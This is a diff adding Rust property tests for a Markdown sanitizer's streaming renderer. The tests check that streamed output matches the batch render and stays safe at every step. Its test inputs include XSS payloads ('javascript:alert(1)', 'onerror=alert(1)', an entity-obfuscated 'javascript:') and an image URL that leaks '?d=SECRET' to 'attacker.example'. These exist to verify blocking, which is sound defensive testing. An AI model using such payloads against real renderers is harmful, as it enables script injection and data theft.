@@ -1,0 +1,345 @@
+//! The stream renderer (`Sanitizer::stream`):
+//!
+//! 1. equivalence: for any input and any chunking, everything committed up to `finish()` is
+//!    byte for byte the batch render, with the same findings;
+//! 2. safety at every step: the independent check finds nothing in committed + tail;
+//! 3. no partial URL: an allowed image or link streamed a character at a time never appears
+//!    with a destination other than its complete one;
+//! 4. the work of a chunk does not grow with the committed part (a block count, not time).
+//!
+//! `PROPTEST_CASES` raises the number of cases.
+
+mod common;
+
+#[path = "../bench/src/generate.rs"]
+#[allow(dead_code)]
+mod generate;
+
+use proptest::prelude::*;
+
+/// Pieces that stress what streaming must get right: blocks that later lines change (setext
+/// underlines, lazy continuations, loose lists, fences, tables), references before their
+/// definitions, footnotes, raw HTML spanning blocks, destinations and entities split anywhere.
+const PIECES: &[&str] = &[
+    "text ",
+    "more words",
+    "\n",
+    "\n\n",
+    "# Head\n",
+    "Setext\n===\n",
+    "para\n---\n",
+    "- item\n",
+    "- item\n\n- loose\n",
+    "1. one\n",
+    "   lazy\n",
+    "> quote\n",
+    "lazy continuation\n",
+    "```\n",
+    "```rust\ncode\n",
+    "~~~\n",
+    "    indented\n",
+    "| a | b |\n|---|---|\n| 1 | 2 |\n",
+    "| x |\n",
+    "*em* ",
+    "**strong ",
+    "~~del~~ ",
+    "`code` ",
+    "`open ",
+    "[r]",
+    "[x][r]",
+    "![y][r]",
+    "[R]: https://docs.example.com/r\n",
+    "[r]: https://evil.example/\n",
+    "[r]: https://docs.example.com/t\n\"title\"\n",
+    "[^1]",
+    "[^1]: footnote\n",
+    "[^2]: second [^1]\n",
+    "[l](https://docs.example.com/a_(b)) ",
+    "![i](https://img.example.com/p.png?d=SECRET) ",
+    "![i](https://attacker.example/p.png?d=SECRET) ",
+    "[l](javascript:alert(1)) ",
+    "https://docs.example.com/bare ",
+    "<https://docs.example.com/auto> ",
+    "<details>\n<summary>s</summary>\n\n",
+    "</details>\n\n",
+    "<b>bold</b> ",
+    "<sub>",
+    "<img src=x onerror=alert(1)>\n",
+    "<div>\n",
+    "</div>\n",
+    "&amp; &#106;avascript: ",
+    "中文 ",
+    "😀",
+    "\u{200B}",
+    "\r\n",
+];
+
+fn document() -> impl Strategy<Value = String> {
+    prop_oneof![
+        6 => prop::collection::vec(prop::sample::select(PIECES), 0..40)
+            .prop_map(|parts| parts.concat()),
+        1 => ".{0,80}",
+    ]
+}
+
+/// Splits `input` at the given byte positions, moved down to character boundaries.
+fn chunks<'a>(input: &'a str, cuts: &[usize]) -> Vec<&'a str> {
+    let mut points: Vec<usize> = cuts
+        .iter()
+        .map(|&c| {
+            let mut c = c % (input.len() + 1);
+            while !input.is_char_boundary(c) {
+                c -= 1;
+            }
+            c
+        })
+        .collect();
+    points.push(0);
+    points.push(input.len());
+    points.sort_unstable();
+    points.dedup();
+    points.windows(2).map(|w| &input[w[0]..w[1]]).collect()
+}
+
+/// Streams `pieces`, checking every intermediate state, and compares with the batch render.
+fn stream_and_compare(policy: &str, input: &str, pieces: &[&str]) -> Result<(), String> {
+    let sanitizer = common::sanitizer_for(policy);
+    let trusted = common::trusted_for(policy);
+    let batch = sanitizer
+        .render_markdown(input)
+        .map_err(|e| e.to_string())?;
+    let mut stream = sanitizer.stream();
+    let mut committed = String::new();
+    let mut findings = Vec::new();
+    for piece in pieces {
+        let update = stream.push(piece).map_err(|e| e.to_string())?;
+        committed.push_str(&update.committed);
+        findings.extend(update.findings);
+        let shown = format!("{committed}{}", update.tail);
+        let violations = common::violations(&shown, &trusted);
+        if !violations.is_empty() {
+            return Err(format!(
+                "{policy}: {violations:?} after {:?}\nshown: {shown}",
+                stream.input()
+            ));
+        }
+    }
+    let update = stream.finish().map_err(|e| e.to_string())?;
+    committed.push_str(&update.committed);
+    findings.extend(update.findings);
+    if committed != batch.html {
+        return Err(format!(
+            "{policy}: committed differs from batch for {input:?} in {pieces:?}\nstream: {committed:?}\nbatch:  {:?}",
+            batch.html
+        ));
+    }
+    if findings != batch.findings {
+        return Err(format!(
+            "{policy}: findings differ for {input:?}\nstream: {findings:?}\nbatch:  {:?}",
+            batch.findings
+        ));
+    }
+    Ok(())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(
+        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1024)
+    ))]
+
+    #[test]
+    fn streaming_equals_batch_and_is_safe_at_every_step(
+        input in document(),
+        cuts in prop::collection::vec(any::<usize>(), 0..24),
+    ) {
+        let pieces = chunks(&input, &cuts);
+        for policy in ["default", "allowlist"] {
+            stream_and_compare(policy, &input, &pieces).map_err(TestCaseError::fail)?;
+        }
+    }
+}
+
+/// Every chunking of a few hand-written answers, one byte (character) at a time and in lines.
+#[test]
+fn character_by_character_equals_batch() {
+    let docs = [
+        "# Title\n\nSome **bold** and *em* text with `code`.\n\n- a\n- b\n\n  c\n\nSetext\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nfn main() {}\n```\n",
+        "See [the docs][d] and [^n].\n\n> quote\nlazy\n\n[d]: https://docs.example.com/d \"T\"\n[^n]: A note.\n",
+        "<details>\n<summary>More</summary>\n\nInside **markdown**.\n\n</details>\n\nAfter. H<sub>2</sub>O <img src=x onerror=alert(1)>\n",
+        "Visit https://docs.example.com/x and ![i](https://img.example.com/a.png?d=1) now.\n",
+    ];
+    for doc in docs {
+        let chars: Vec<&str> = doc
+            .char_indices()
+            .map(|(i, c)| &doc[i..i + c.len_utf8()])
+            .collect();
+        let lines: Vec<&str> = doc.split_inclusive('\n').collect();
+        for policy in ["default", "allowlist"] {
+            stream_and_compare(policy, doc, &chars).unwrap();
+            stream_and_compare(policy, doc, &lines).unwrap();
+        }
+    }
+}
+
+/// The benchmark answers, in 4-byte chunks, give the batch render.
+#[test]
+fn generated_answers_stream_like_batch() {
+    for seed in 1..4u64 {
+        let doc = generate::answer_with_seed(6_000, seed);
+        let pieces = chunks(&doc, &(0..doc.len()).step_by(4).collect::<Vec<_>>());
+        for policy in ["default", "allowlist"] {
+            let sanitizer = common::sanitizer_for(policy);
+            let batch = sanitizer.render_markdown(&doc).unwrap();
+            let mut stream = sanitizer.stream();
+            let mut committed = String::new();
+            for p in &pieces {
+                committed.push_str(&stream.push_committed(p).unwrap().committed);
+            }
+            committed.push_str(&stream.finish().unwrap().committed);
+            assert_eq!(committed, batch.html, "seed {seed}, {policy}");
+        }
+    }
+}
+
+/// The `src` and `href` values in `html`, as a parser reads them.
+fn destinations(html: &str) -> Vec<String> {
+    let parsed = common::parse(html);
+    common::elements(&parsed.root)
+        .into_iter()
+        .flat_map(|(_, attrs, _)| {
+            attrs
+                .into_iter()
+                .filter(|(name, _)| name == "src" || name == "href")
+                .map(|(_, value)| value)
+        })
+        .collect()
+}
+
+/// An allowed image and an allowed link streamed a character at a time: no intermediate state
+/// holds any destination but the complete ones (no request for `?d=S`, `?d=SE`, …).
+#[test]
+fn no_partial_destination_at_any_step() {
+    let image = "https://img.example.com/p.png?d=SECRET";
+    let link = "https://docs.example.com/path?q=SECRET";
+    let doc = format!(
+        "Look: ![chart]({image}) and [docs]({link}) or {link} and <{link}> and\n\n[r]: {link}\n\n[ref][r] <img src=\"{image}\">\n"
+    );
+    let sanitizer = common::sanitizer_for("allowlist");
+    let mut stream = sanitizer.stream();
+    let mut committed = String::new();
+    let mut seen_complete = false;
+    for (i, c) in doc.char_indices() {
+        let update = stream.push(&doc[i..i + c.len_utf8()]).unwrap();
+        committed.push_str(&update.committed);
+        for dest in destinations(&format!("{committed}{}", update.tail)) {
+            assert!(
+                dest == image || dest == link,
+                "partial destination {dest:?} after {:?}",
+                &doc[..=i]
+            );
+            seen_complete = true;
+        }
+    }
+    committed.push_str(&stream.finish().unwrap().committed);
+    assert!(
+        seen_complete,
+        "the complete destinations were shown at some point"
+    );
+    let finals = destinations(&committed);
+    assert!(finals.iter().any(|d| d == image) && finals.iter().any(|d| d == link));
+}
+
+/// The tail heals what is unfinished: no raw `**`, open code spans shown as code.
+#[test]
+fn tail_heals_unfinished_markdown() {
+    let sanitizer = common::sanitizer_for("default");
+    let cases = [
+        ("Some **bold te", "strong", "bold te"),
+        ("Some *emphasis", "em", "emphasis"),
+        ("Some ~~gone", "del", "gone"),
+        ("Run `cargo te", "code", "cargo te"),
+        ("```rust\nfn main", "code", "fn main"),
+    ];
+    for (input, element, text) in cases {
+        let mut stream = sanitizer.stream();
+        let update = stream.push(input).unwrap();
+        let parsed = common::parse(&update.tail);
+        let found = common::elements(&parsed.root)
+            .into_iter()
+            .any(|(name, _, _)| name == element);
+        assert!(found, "{input:?} → {:?} has no <{element}>", update.tail);
+        let shown = common::text(&parsed.root);
+        assert!(shown.contains(text), "{input:?} → {shown:?}");
+        assert!(
+            !shown.contains("**") && !shown.contains('`'),
+            "{input:?} → {shown:?}"
+        );
+    }
+    // A link whose destination is still arriving shows its text only.
+    let mut stream = sanitizer.stream();
+    let update = stream.push("see [the docs](https://docs.exa").unwrap();
+    let parsed = common::parse(&update.tail);
+    assert_eq!(common::text(&parsed.root).trim(), "see the docs");
+    assert!(destinations(&update.tail).is_empty());
+}
+
+/// Bytes split inside UTF-8 characters decode as the whole input would.
+#[test]
+fn bytes_split_inside_characters() {
+    let doc = "中文 **😀 text** \u{FFFD} end\n\nnext 👩‍💻\n"
+        .as_bytes()
+        .to_vec();
+    let mut bad = doc.clone();
+    bad.insert(3, 0xFF);
+    for bytes in [doc, bad] {
+        let sanitizer = common::sanitizer_for("default");
+        let batch = sanitizer
+            .render_markdown(&String::from_utf8_lossy(&bytes))
+            .unwrap();
+        let mut stream = sanitizer.stream();
+        let mut committed = String::new();
+        for b in &bytes {
+            committed.push_str(&stream.push_bytes(&[*b]).unwrap().committed);
+        }
+        committed.push_str(&stream.finish().unwrap().committed);
+        assert_eq!(committed, batch.html);
+    }
+}
+
+/// Input over the limit is refused with an error, and the stream goes on as it was.
+#[test]
+fn limit_is_enforced_per_stream() {
+    let sanitizer =
+        safemark::Sanitizer::from_json(r#"{ "limits": { "max_input_bytes": 16 } }"#).unwrap();
+    let mut stream = sanitizer.stream();
+    stream.push("0123456789\n").unwrap();
+    let err = stream.push("0123456789").unwrap_err();
+    assert!(
+        matches!(err, safemark::Error::InputTooLarge { .. }),
+        "{err}"
+    );
+    stream.push("ab").unwrap();
+    let rest = stream.finish().unwrap();
+    assert!(rest.committed.contains("ab"));
+}
+
+/// Committing is incremental: once a block is committed, later pushes do not render it again.
+/// Measured as the size of what a push parses, through the committed output growing while
+/// each update stays small.
+#[test]
+fn committed_output_grows_block_by_block() {
+    let doc = generate::answer(20_000);
+    let sanitizer = common::sanitizer_for("default");
+    let mut stream = sanitizer.stream();
+    let mut commits = 0;
+    let mut largest = 0;
+    for line in doc.split_inclusive('\n') {
+        let update = stream.push_committed(line).unwrap();
+        if !update.committed.is_empty() {
+            commits += 1;
+            largest = largest.max(update.committed.len());
+        }
+    }
+    assert!(commits > 50, "only {commits} commits for a 20 KB answer");
+    assert!(largest < 8_000, "a commit of {largest} bytes");
+}
